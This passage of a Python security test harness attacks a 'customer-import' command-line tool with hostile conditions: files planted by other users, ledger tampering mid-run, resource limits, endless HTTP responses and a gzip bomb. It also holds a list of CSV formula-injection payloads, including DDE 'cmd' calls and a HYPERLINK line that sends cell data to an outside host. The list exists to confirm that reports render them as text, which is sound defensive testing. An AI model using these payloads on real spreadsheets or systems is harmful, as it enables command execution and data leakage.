        ran = lab.run(*lab.imports(server, "--ledger", "link.db"))
        attempt(
            "a link to a ledger that another user made is refused", is_refused(ran, f"belongs to user {other}"), ran
        )
        os.lchown(link, mine, mine)
        ran = lab.run(*lab.imports(server, "--ledger", "link.db"))
        attempt("a link of one's own is followed", ran.code == 0, ran)
        os.chown(lab.folder, other, mine)
        lab.folder.chmod(0o775)
        ran = lab.run(*lab.imports(server, "--ledger", "l.db"))
        attempt(
            "a folder of another user is warned of",
            f"user {other}" in ran.said and "may replace the ledger" in ran.said,
            ran,
        )
    lab = Lab(mine)
    lab.people(2)
    lab.folder.chmod(0o1777)
    with Sandbox(lab) as server:
        for ending in ("-wal", ".lock", "-journal"):
            made = try_as(other, "sh", "-c", f"umask 000; echo planted > '{lab.folder}/l.db{ending}'")
            ran = lab.run(*lab.imports(server, "--ledger", "l.db"))
            holds = (
                made is not None and ran.code == 78 and f"belongs to user {other}" in ran.said and server.posts() == 0
            )
            attempt(f"l.db{ending} that another user planted in a sticky folder is refused", holds, ran)
            (lab / f"l.db{ending}").unlink(missing_ok=True)


def owners_of_the_rest(mine, other):
    lab, server = imported(Lab(mine))
    with server:
        obeyed = lab / "obeyed"
        words = f'token-command = "touch {obeyed}; echo test-token"\n'
        for owner, holds in ((other, False), (0, True), (mine, True)):
            obeyed.unlink(missing_ok=True)
            lab.write("c.toml", words, 0o644, owner)
            ran = lab.run(
                *lab.imports(server, "--ledger", "l.db", "--config", "c.toml"), env=lab.env(CUSTOMER_IMPORT_TOKEN=None)
            )
            good = (
                ran.code == 0 and obeyed.exists()
                if holds
                else is_refused(ran, f"belongs to user {other}") and not obeyed.exists()
            )
            who = {other: "another user", 0: "root", mine: "one's own"}[owner]
            attempt(f"a configuration of {who} is {'obeyed' if holds else 'not obeyed'}", good, ran)
        lab.write("token", CREDENTIAL, 0o600, other)
        ran = lab.run(
            *lab.imports(server, "--ledger", "l.db", "--token-file", "token"), env=lab.env(CUSTOMER_IMPORT_TOKEN=None)
        )
        attempt("a token file that cannot be read ends with 77", ran.code == 77, ran)
        lab.write("token", CREDENTIAL, 0o644, 0)
        ran = lab.run(
            *lab.imports(server, "--ledger", "l.db", "--token-file", "token"), env=lab.env(CUSTOMER_IMPORT_TOKEN=None)
        )
        attempt("a token file of root, as containers have it, is read", ran.code == 0, ran)


def reach_of_others(mine, other):
    lab = Lab(mine)
    lab.people(30)
    with Sandbox(lab, "--latency", "50ms") as server, open(lab / "in.csv", "rb") as file:
        words = 'umask 000; exec "$0" "$@"'
        more = ["import", "-", "--base-url", server.url, *FAST, "--concurrency", "1", "--report", "out.csv"]
        run = Process(
            ["sh", "-c", words, Place.program, *more], folder=lab.folder, env=lab.env(), user=mine, stdin=file
        )
        until(lambda: server.posts() >= 3)
        ledgers = list((lab / "state").rglob("*.db"))
        attempt("an import with umask 000 is at work", len(ledgers) == 1, ledgers)
        for path in sorted((lab / "state").rglob("*")):
            name = re.sub(r"[0-9a-f-]{20,}", "ID", path.name)
            attempt(f"another user cannot read {name}", path.is_dir() or try_as(other, "cat", path) is None)
            attempt(f"another user cannot replace {name}", try_as(other, "mv", path, f"{path}.away") is None)
            attempt(f"another user cannot write beside {name}", try_as(other, "touch", path.parent / "planted") is None)
        signalled = try_as(other, "kill", "-TERM", run.child.pid)
        attempt("another user cannot signal the run", signalled is None)
        memory = try_as(other, "cat", f"/proc/{run.child.pid}/environ")
        attempt("another user cannot read its environment", not memory)
        own = try_as(mine, "cat", f"/proc/{run.child.pid}/environ")
        attempt("its own user cannot read it either, since it is not dumpable", not own)
        ran = run.end()
        attempt("and it ends as if nobody were there", ran.code == 0 and server.has(30), ran)
        attempt("another user cannot read the report", try_as(other, "cat", lab / "out.csv") is None)


def threads(mine):
    """The limit on processes counts for others than root only."""
    for most in (1, 2, 3, 4, 5, 6, 8):
        lab = Lab(mine)
        lab.people(20)
        with Sandbox(lab) as server:
            ran = lab.run(
                *lab.imports(server, "--ledger", "l.db", "--give-up-after", "2s"), limit=f"RLIMIT_NPROC={most}"
            )
            holds = ran.code == 0 or ran.code == 74 and "RLIMIT_NPROC" in ran.said
            attempt(f"{most} processes and threads are enough or named", holds and not ran.is_crashed, ran)
            again = lab.run(*lab.imports(server, "--ledger", "l.db"))
            attempt(
                f"  and after {most} processes the next run completes without a double",
                again.code == 0 and server.has(20),
                again,
            )


# ---- formulas

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?x="&A1,"error")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "\ufeff=1+1",
    "\u200b@SUM(1)",
    "\uff1d1+1",
    "\uff0b1-\uff20A1",
    "\ufe66A1",
    "--1",
    "+-+A1",
    "=@A1",
]


def is_live(cell):
    """Whether a spreadsheet would run it."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    plain = unicodedata.normalize("NFKC", cell)
    while plain and (plain[0].isspace() or plain[0] == '"' or unicodedata.category(plain[0]) in ("Cc", "Cf")):
        plain = plain[1:]
    return plain[:1] in tuple("=+-@") and not re.fullmatch(r"[+-]?\d[\d. ]*", plain)


def live_cells(rows, spared=()):
    header = rows[0] if rows else []
    named = [(header[n] if n < len(header) else str(n), cell) for row in rows for n, cell in enumerate(row)]
    return [f"{name}: {cell!r}" for name, cell in named if is_live(cell) and name not in spared]


def formulas_of_the_server(place, script, status):
    """One record for each payload; the script gets the payload of the record that it answers for."""
    lab = Lab()
    lab.rows([[f"Ada {n}", f"p{n}@kunde.example.net", f"+49176123{n:05}", "DEU"] for n in range(len(PAYLOADS))])

    def answers(request):
        if not request.is_post and not request.email:
            return listed([])
        return script(request, PAYLOADS[int(re.search(r"p(\d+)@", request.email)[1])])

    with World(answers) as world:
        more = ["--rejects", "mend.csv", "--ledger", "l.db", "--max-attempts", "2"]
        ran = lab.run(*lab.imports(world, *more))
        rows = lab.report() if (lab / "in.report.csv").exists() else []
        rejects = lab.report("mend.csv") if (lab / "mend.csv").exists() else []
        for n, payload in enumerate(PAYLOADS):
            row = dict(zip(rows[0], rows[n + 1])) if len(rows) > n + 1 else {}
            live = live_cells([rows[0], rows[n + 1]]) if row else ["there is no such row"]
            back = all(
                cell.removeprefix("'") == payload
                for name, cell in row.items()
                if place == "a receipt" and name in RECEIPT
            )
            holds = not live and row.get("status") == status and back
            attempt(f"{payload!r} in {place} is text", holds, "\n".join([*live, str(row), str(ran)]))
        # The input's own cells are never touched, and here they are no formulas.
        attempt(
            f"the rejects of {place} hold no formula",
            not live_cells(rejects, ("customer_phone",)) and bool(rejects),
            rejects,
        )


RECEIPT = ["id", "customer_id", "kyc_link", "tos_link"]


def group_formulas():
    """No cell that somebody else chose is run by a spreadsheet."""
    every = [*RECEIPT, "kyc_status", "tos_status", "created_at"]
    formulas_of_the_server("a receipt", lambda _, payload: created(**dict.fromkeys(every, payload)), "created")
    formulas_of_the_server("a refusal", lambda _, payload: refused(400, payload), "rejected")
    formulas_of_the_server(
        "a field's complaint", lambda _, payload: refused(422, "no", {"customer_name": [payload]}), "rejected"
    )
    taken = lambda request, payload: (
        refused(409, "email already exists")
        if request.is_post
        else listed([{"customer_email": request.email, "id": payload, "customer_id": payload, "kyc_status": payload}])
    )  # noqa: E731
    formulas_of_the_server("a look-up", taken, "exists")
    twice = lambda request, payload: (
        refused(409, "email already exists")
        if request.is_post
        else listed([{"customer_email": request.email, "customer_id": payload}] * 2)
    )  # noqa: E731
    formulas_of_the_server("a look-up that finds two", twice, "exists")

    lab = Lab()
    header = [*HEADER.split(","), "=note", "legacy"]
    lab.rows(
        [
            [f"Ada {n}", f"p{n}@kunde.example.net", f"+49176123{n:05}", "DEU", payload, payload]
            for n, payload in enumerate(PAYLOADS)
        ],
        header,
    )
    with Sandbox(lab) as server:
        ran = lab.run(*lab.imports(server, "--keep", "=note", "--keep", "legacy", "--rejects", "mend.csv"))
        rows = lab.report() if (lab / "in.report.csv").exists() else [[]]
        attempt("a kept column's name is text", bool(rows[0]) and not live_cells(rows[:1]), rows[0])
        for n, payload in enumerate(PAYLOADS):
            row = rows[n + 1] if len(rows) > n + 1 else []
            holds = (
                bool(row) and not live_cells([rows[0], row]) and row[-1].removeprefix("'").strip() == payload.strip()
            )
            attempt(f"a kept {payload!r} is text", holds, f"{row}\n{ran}")
    for column in range(4):
        lab = Lab()
        rows = []
        for n, payload in enumerate(PAYLOADS):
            row = [f"Ada {n}", f"p{n}@kunde.example.net", f"+49176123{n:05}", "DEU"]
            row[column] = payload
            rows.append(row)
        lab.rows(rows)
        name = HEADER.split(",")[column]
        ran = lab.run("check", "in.csv", "--report", "c.csv", "--rejects", "mend.csv")
        with Sandbox(lab) as server:
            ran = lab.run(*lab.imports(server, "--rejects", "mend.csv"))
        for n, payload in enumerate(PAYLOADS):
            complaints = []
            for report in ("c.csv", "in.report.csv"):
                table = lab.report(report) if (lab / report).exists() else []
                complaints += (
                    live_cells([table[0], table[n + 1]], ("customer_email",))
                    if len(table) > n + 1
                    else ["there is no such row"]
                )
            attempt(
                f"what is said of {payload!r} as {name} is text", not complaints, "\n".join([*complaints, str(ran)])
            )
        rejects = lab.report("mend.csv") if (lab / "mend.csv").exists() else [["error"]]
        untouched = {row[column] for row in rejects[1:]} <= set(PAYLOADS)
        attempt(
            f"the complaints about {name} are text and the input's cells untouched",
            untouched and not live_cells([[row[-1]] for row in rejects]),
            rejects,
        )


# ---- ledgers that are meddled with while a run is at work

DEEDS = {
    "mv l.db elsewhere.db": "mv elsewhere.db l.db",
    "rm l.db": "",
    "mv l.db elsewhere.db; cp elsewhere.db l.db": "mv elsewhere.db l.db",
    "mv l.db elsewhere.db; : > l.db": "mv elsewhere.db l.db",
    "mv l.db elsewhere.db; ln -s other.db l.db": "rm l.db; mv elsewhere.db l.db",
    "mv l.db elsewhere.db; mkdir l.db": "rmdir l.db; mv elsewhere.db l.db",
    "cp l.db copy.db; mv copy.db l.db": "",
    "rm l.db.lock": "true",
    "mv l.db.lock away.lock": "true",
    "rm l.db.lock; : > l.db.lock": "true",
    "ln -sf /nowhere l.db.lock": "rm l.db.lock",
}


def group_ledgers():
    """A ledger that is renamed, removed or replaced in mid-run stops the run, and no customer is doubled."""
    for deed, undo in DEEDS.items():
        lab = peopled(200)
        with Sandbox(lab, "--latency", "20ms") as server:
            run = lab.start(*lab.imports(server, "--ledger", "l.db", "--concurrency", "2"))
            at_work = until(lambda: server.posts() >= 5)
            subprocess.run(["sh", "-c", deed], cwd=lab.folder, check=True)
            ran = run.end(60)
            holds = at_work and ran.code == 74 and len(server.created()) < 200
            attempt(f"after '{deed}' the run stops", holds, ran)
            attempt("  and no customer is there twice", server.has_no_doubles())
            rows = lab.report() if (lab / "in.report.csv").exists() else [["customer_email", "status"]]
            table = [dict(zip(rows[0], row)) for row in rows[1:]]
            told = {row["customer_email"] for row in table if row["status"] == "created"}
            attempt(
                "  and the report is true",
                len(table) == 200 and told == set(server.created()),
                f"{len(table)} rows\n{ran}",
            )
            if undo:
                subprocess.run(["sh", "-c", undo], cwd=lab.folder, check=True)
                again = lab.run(*lab.imports(server, "--ledger", "l.db", "--concurrency", "64"))
                attempt(
                    "  and after it was undone the next run completes without a double",
                    again.code == 0 and server.has(200),
                    again,
                )
    lab = peopled(200)
    with Sandbox(lab, "--latency", "20ms") as server:
        run = lab.start(*lab.imports(server, "--ledger", "l.db", "--concurrency", "2"))
        until(lambda: server.posts() >= 5)
        (lab / "l.db.lock").unlink()
        second = lab.run(*lab.imports(server, "--ledger", "l.db", "--report", "second.csv"))
        attempt("a removed lock file lets no second run in", second.code == 5, second)
        ran = run.end()
        attempt("  and the first one stops without a double", ran.code == 74 and server.has_no_doubles(), ran)
    lab = peopled(100)
    (lab / "folder").mkdir(0o700)
    with Sandbox(lab, "--latency", "20ms") as server:
        run = lab.start(*lab.imports(server, "--ledger", "folder/l.db", "--concurrency", "2"))
        until(lambda: server.posts() >= 5)
        (lab / "folder").rename(lab / "away")
        ran = run.end()
        attempt("after its folder was renamed the run stops", ran.code == 74 and "away" in ran.said, ran)
        (lab / "away").rename(lab / "folder")
        again = lab.run(*lab.imports(server, "--ledger", "folder/l.db"))
        attempt(
            "  and after it was undone the next run completes without a double",
            again.code == 0 and server.has(100),
            again,
        )


# ---- scarce limits


def has_strace():
    with contextlib.suppress(OSError):
        return (
            subprocess.run(["strace", "-qq", "-o", "/dev/null", "true"], capture_output=True, check=False).returncode
            == 0
        )
    return False


def is_loaded(ran):
    """Whether the system could load the program at all."""
    words = ("cannot map", "cannot allocate memory", "error while loading", "failed to map")
    return not any(word in ran.said for word in words) and not (ran.code == 139 and not ran.said)


def group_limits():
    """A scarce limit ends a run with 74 and its name, and the next run completes."""
    limits = [("RLIMIT_NOFILE", most) for most in (4, 6, 8, 10, 11, 12, 13, 14, 16, 18, 20, 24)]
    limits += [("RLIMIT_FSIZE", kib * 1024) for kib in (1, 8, 20, 33, 50, 64, 100, 110, 120, 130, 150, 200)]
    limits += [("RLIMIT_AS", mib << 20) for mib in (60, 100, 140, 160, 180, 200, 240, 300, 400, 600, 1000)]
    limits += [("RLIMIT_DATA", mib << 20) for mib in (1, 8, 16, 24, 28, 32, 40, 48, 64, 96)]
    limits += [("RLIMIT_STACK", kib << 10) for kib in (64, 96, 128, 256, 1024)]
    for name, value in limits:
        lab = peopled(20)
        with Sandbox(lab) as server:
            more = ["--ledger", "l.db", "--give-up-after", "2s"]
            ran = lab.run(*lab.imports(server, *more), limit=f"{name}={value}")
            if not is_loaded(ran):
                skip(f"{name}={value}", "the system cannot load the program")
                continue
            holds = ran.code in (0, 69, 74) and not ran.is_crashed
            attempt(f"{name}={value} ends the run with 0, 69 or 74", holds, ran)
            if ran.code == 74:
                attempt("  and is named", "RLIMIT_" in ran.said and "limit" in ran.said, ran)
            again = lab.run(*lab.imports(server, "--ledger", "l.db"))
            attempt("  and the next run completes without a double", again.code == 0 and server.has(20), again)
    for kib in (1, 4, 16):
        lab = peopled(400)
        with Sandbox(lab) as server:
            ran = lab.run("check", "in.csv", "--report", "c.csv", limit=f"RLIMIT_FSIZE={kib * 1024}")
            left = [path.name for path in lab.folder.glob(".c.csv*")]
            attempt(
                f"a report above {kib} KiB ends with 74, the limit and no temporary file",
                ran.code == 74 and "RLIMIT_FSIZE" in ran.said and not left,
                f"{left}\n{ran}",
            )
    if not has_strace():
        return skip("random bytes and threads", "strace cannot be used here")
    for error in ("EIO", "ENOSYS"):
        lab = peopled(20)
        with Sandbox(lab) as server:
            ran = traced(lab, "getrandom", f"inject=getrandom:error={error}", lab.imports(server))
            holds = (
                ran.code == 74 and "random" in ran.said and server.posts() == 0
                if error == "EIO"
                else ran.code in (0, 74)
            )
            attempt(
                f"getrandom that fails with {error} is told before anything is sent", holds and not ran.is_crashed, ran
            )
    for nth in range(1, 16):
        lab = peopled(20)
        with Sandbox(lab) as server:
            ran = traced(
                lab,
                "clone3,clone",
                f"inject=clone3,clone:error=EAGAIN:when={nth}+",
                lab.imports(server, "--ledger", "l.db"),
            )
            holds = ran.code == 0 or ran.code == 74 and "RLIMIT_NPROC" in ran.said
            attempt(f"a refused thread {nth} is named or not needed", holds and not ran.is_crashed, ran)
            again = lab.run(*lab.imports(server, "--ledger", "l.db"))
            attempt("  and the next run completes without a double", again.code == 0 and server.has(20), again)
        if ran.code == 0:
            break
    return None


def traced(lab, calls, inject, args):
    command = ["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"trace={calls}", "-e", inject, Place.program, *args]
    return Process(command, folder=lab.folder, env=lab.env()).end()


# ---- answers without an end, and large ones

CHAINS = {
    "100": "HTTP/1.1 100 Continue\r\n\r\n",
    "102": "HTTP/1.1 102 Processing\r\n\r\n",
    "103": "HTTP/1.1 103 Early Hints\r\nlink: </style.css>; rel=preload; as=style\r\n\r\n",
    "199": "HTTP/1.1 199 Anything\r\nx: " + "y" * 4000 + "\r\n\r\n",
}


def forever(text, pause=0):
    """With a pause it comes no faster than it is read."""
    piece = (text * (1 + (2048 if pause else 65536) // len(text))).encode()
    while True:
        yield piece
        time.sleep(pause)


def to_one(who, pieces):
    """Answers the first request for an e-mail that begins so with these pieces, and creates all others."""

    def script(request):
        if not request.is_post:
            return listed([])
        return pieces() if request.email.startswith(who) and request.nth == 1 else created(customer_id="c-1")

    return script


def chained(lab, world, *more, patience=PATIENCE):
    return lab.start("import", "in.csv", "--base-url", world.url, *FAST, "--ledger", "l.db", *more)


def group_chains():
    """An endless chain of informational answers (1xx) is a silence of its own record only."""
    lab = peopled(30)
    with World(lambda request: created(customer_id="c-1") if request.is_post else listed([])) as world:
        usual = chained(lab, world).end()
        attempt("without a chain the import completes", usual.code == 0, usual)

    lab = peopled(30)
    with World(to_one("p5@", lambda: forever(CHAINS["103"], 0.001))) as world:
        ran = chained(lab, world, "--timeout", "3s").end()
        posts = [request.email for request in world.posts()]
        holds = ran.code == 0 and len(posts) == 31 and posts[-1].startswith("p5@")
        attempt("a chain that is no faster than it is read delays no other record", holds, f"{posts}\n{ran}")
    for number, text in CHAINS.items():

        script = to_one("p5@", lambda text=text: forever(text))
        steady = to_one("p5@", lambda text=text: forever(text, 0.001))
        lab = peopled(30)
        with World(script) as world:
            ran = chained(lab, world, "--timeout", "3s").end()
            posts = [request.email for request in world.posts()]
            attempt(
                f"an endless chain of {number} ends as a silence",
                ran.code == 0 and ran.processor < 20 and posts.count("p5@kunde.example.net") == 2,
                ran,
            )
            first, last = posts.index("p5@kunde.example.net"), len(posts) - posts[::-1].index("p5@kunde.example.net")
            between = len(set(posts[first:last])) - 1
            attempt(
                f"  and other records are sent meanwhile ({between})", between >= 3 and len(set(posts)) == 30, posts
            )
            attempt(
                f"  and {world.sent >> 20} MiB of it cost no memory ({ran.memory} MiB, {usual.memory} MiB without)",
                ran.memory < usual.memory + 24 and world.sent > 1 << 20,
            )
            print(
                f"          {ran.processor:.1f} s of processor time in {ran.seconds:.1f} s, {usual.processor:.1f} s without",
                flush=True,
            )
        lab = peopled(30)
        with World(script) as world:
            ran = chained(lab, world, "--timeout", "10m").end(120)
            attempt(
                f"  and long before a --timeout of 10 minutes, after {ran.processor:.1f} s of processor time",
                ran.code == 0 and ran.processor < 15,
                ran,
            )
        lab = peopled(8)
        with World(script) as world:
            # As fast as it comes, it leaves little time for anything else, so this may take a while.
            run = chained(lab, world, "--concurrency", "1", "--timeout", "3s")
            at_work = until(lambda: world.sent > 1 << 16)
            run.signal(signal.SIGINT)
            ran = run.end(30)
            attempt(f"a chain of {number} leaves SIGINT heard", at_work and ran.code == 130, ran)
        lab = peopled(8)
        with World(steady) as world:
            run = chained(lab, world, "--concurrency", "1", "--timeout", "75s")
            at_work = until(lambda: world.sent > 1 << 16)
            # Signals that come at once count as one.
            for _ in range(8):
                if run.has_ended():
                    break
                run.signal(signal.SIGINT)
                time.sleep(1)
            ran = run.end(10)
            attempt(
                f"a chain of {number} leaves the second SIGINT heard, which ends the run at once",
                at_work and ran.code == 130,
                ran,
            )
    for name, endless in {
        "a header": lambda: forever("x"),
        "headers": lambda: forever("x: y\r\n"),
        "a body": lambda: forever(" "),
        "chunks": lambda: forever("10\r\n" + " " * 16 + "\r\n"),
    }.items():
        head = {
            "a header": b"HTTP/1.1 200 OK\r\nx: ",
            "headers": b"HTTP/1.1 200 OK\r\n",
            "a body": b"HTTP/1.1 200 OK\r\n\r\n",
            "chunks": b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n",
        }[name]

        def pieces(head=head, endless=endless):
            yield head
            yield from endless()

        lab = peopled(10)
        with World(to_one("p0@", pieces)) as world:
            ran = chained(lab, world, "--timeout", "3s").end()
            good = ran.code == 0 and ran.seconds < 15 and ran.memory < usual.memory + 24
            attempt(f"{name} without an end is a silence and costs no memory ({ran.memory} MiB)", good, ran)


def group_bulk():
    """Large answers are bounded in the ledger, the reports and the words."""
    for size, is_kept in ((60_000, True), (70_000, False), (900_000, False)):
        lab = peopled(20)
        with World(
            lambda request, size=size: (
                created(customer_id=f"c-{request.email}", note="x" * size) if request.is_post else listed([])
            )
        ) as world:
            ran = lab.run(*lab.imports(world, "--ledger", "l.db", "--report", "r.csv", "--report", "r.ndjson"))
            lines = (lab / "r.ndjson").read_text().splitlines() if (lab / "r.ndjson").exists() else []
            data = [json.loads(line) for line in lines]
            attempt(
                f"data of {size} bytes do not stop an import",
                ran.code == 0 and len(data) == 20 and all(one["customer_id"] for one in data),
                ran,
            )
            good = all(
                (one["data"] is not None) == is_kept and ("answer.data" in (one["warning"] or "")) != is_kept
                for one in data
            )
            attempt(
                f"  and they are {'kept' if is_kept else 'not kept, which the report says'}",
                bool(data) and good,
                data[0] if data else "",
            )
            stored = sum(path.stat().st_size for path in lab.folder.glob("l.db*"))
            attempt(f"  and the ledger has {stored >> 10} KiB", stored < (4 << 20 if is_kept else 512 << 10))
    large = "x" * 900_000
    for name, script in {
        "a refusal": lambda request: refused(400, large),
        "a field's complaint": lambda request: refused(422, "no", {"customer_name": [large] * 1}),
        "many complaints": lambda request: refused(422, "no", {"customer_name": ["no"] * 100_000}),
        "a page": lambda request: answer(400, f"<html><title>{large}</title></html>", [("content-type", "text/html")]),
        "a body above 1 MiB": lambda request: refused(400, large * 3) if request.is_post else listed([]),
        "deep nesting": lambda request: (
            answer(200, "[" * 200_000, [("content-type", "application/json")]) if request.is_post else listed([])
        ),
        "deep data": lambda request: answer(
            200, '{"status":"success","status_code":200,"data":{"id":"c","x":' + "[" * 30_000 + "]" * 30_000 + "}}"
        ),
        "a packed body": lambda request: packed(request),
        "a look-up full of matches": lambda request: (
            refused(409, "email already exists")
            if request.is_post
            else listed([{"customer_email": request.email, "customer_id": str(n)} for n in range(5000)])
        ),
        "a look-up of others": lambda request: (
            refused(409, "email already exists")
            if request.is_post
            else listed([{"customer_email": f"{n}{request.email}", "customer_id": str(n)} for n in range(5000)])
        ),
        "a long header": lambda request: answer(
            400, {"message": "no"}, [("retry-after", "9" * 60_000), ("x-request-id", "y" * 30_000)]
        ),
        "ten thousand headers": lambda request: answer(
            400, {"message": "no"}, [(f"x-{n}", "y") for n in range(10_000)]
        ),
    }.items():
        lab = peopled(3)
        with World(script) as world:
            ran = lab.run(
                *lab.imports(
                    world,
                    "--ledger",
                    "l.db",
                    "--max-attempts",
                    "2",
                    "--rejects",
                    "mend.csv",
                    "--timeout",
                    "10s",
                    "--give-up-after",
                    "3s",
                ),
                patience=40,
            )
            attempt(
                f"{name} does not crash an import ({ran.memory} MiB, {ran.seconds:.1f} s)",
                not ran.is_crashed and ran.memory < 250,
                ran,
            )
            rows = lab.report() if (lab / "in.report.csv").exists() else []
            longest = max((len(cell) for row in rows for cell in row), default=0)
            attempt(f"  and its cells are short ({longest})", 0 < longest < 8000, rows[:1])
            attempt("  and so are the words", len(ran.said) < 20_000, len(ran.said))


def packed(request):
    """A small body that unpacks to 64 MiB."""
    import gzip

    if not request.is_post:
        return listed([])
    body = gzip.compress(b" " * (64 << 20), 9)
    return answer(200, body, [("content-encoding", "gzip"), ("content-type", "application/json")])


# ---- the whole

GROUPS = {name.removeprefix("group_"): work for name, work in list(globals().items()) if name.startswith("group_")}


def ours():
    """The processes that are in a session of one that this script started."""
    sessions, found = {child.pid for child in Place.processes}, []
    for status in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError, IndexError, ValueError):
            name, _, fields = status.read_text().rpartition(") ")
            state, _, _, session = fields.split()[:4]
            if int(session) in sessions and state not in "ZX":
                found.append(int(name.split()[0]))
    return found


def clean():
    """Ends and removes everything that was made."""
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    for child in Place.processes:
        if child.returncode is None:
            with contextlib.suppress(OSError):
                os.killpg(child.pid, signal.SIGKILL)
    for _ in range(20):
        left = ours()
        if not left:
            break
        for pid in left:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        time.sleep(0.05)
    remove_users()
    shutil.rmtree(Place.root, ignore_errors=True)


def end(number, _):
    raise Ended(
        f"ended by {signal.Signals(number).name}" if number != signal.SIGALRM else f"it took more than {DEADLINE} s"
    )


def main():
    if len(sys.argv) < 2 or sys.argv[1].startswith("-") or set(sys.argv[2:]) - set(GROUPS):
        print(f"usage: {sys.argv[0]} PROGRAM [GROUP...]\ngroups: {' '.join(GROUPS)}", file=sys.stderr)
        return 2
    if sys.platform != "linux":
        print("this needs Linux", file=sys.stderr)
        return 2
    begun = time.monotonic()
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
        signal.signal(number, end)
    # A large run of tries must not be ended by the limit on open files.
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    signal.alarm(DEADLINE)
    os.umask(0o022)
    try:
        Place.root = tempfile.mkdtemp(prefix="hostile-")
        os.chmod(Place.root, 0o711)
        # A copy that other users can run, and that nothing replaces meanwhile.
        Place.program = shutil.copy(sys.argv[1], Path(Place.root) / "customer-import")
        os.chmod(Place.program, 0o755)
        for name in sys.argv[2:] or GROUPS:
            before, at = Tally.tries, time.monotonic()
            print(f"-- {name}: {GROUPS[name].__doc__}", flush=True)
            GROUPS[name]()
            print(f"-- {name}: {Tally.tries - before} tries in {time.monotonic() - at:.0f} s", flush=True)
            attempt(f"no process of {name} is left", until(lambda: not ours(), 5), ours())
    except (Ended, Failed) as reason:
        attempt("the script comes to its end", False, reason)
    except Exception:
        attempt("the script comes to its end", False, traceback.format_exc())
    finally:
        if Place.root:
            users = list(Place.users)
            clean()
            left = [
                *ours(),
                *(name for name in users if is_user(name)),
                *([Place.root] if os.path.exists(Place.root) else []),
            ]
            attempt("no user, process or file is left", not left, left)
    for name in Tally.failures:
        print(f"failed: {name.strip()}")
    print(
        f"{Tally.tries} tries, {len(Tally.failures)} failures, {len(Tally.skipped)} skipped, {time.monotonic() - begun:.0f} s"
    )
    return 1 if Tally.failures else 0


if __name__ == "__main__":
    sys.exit(main())
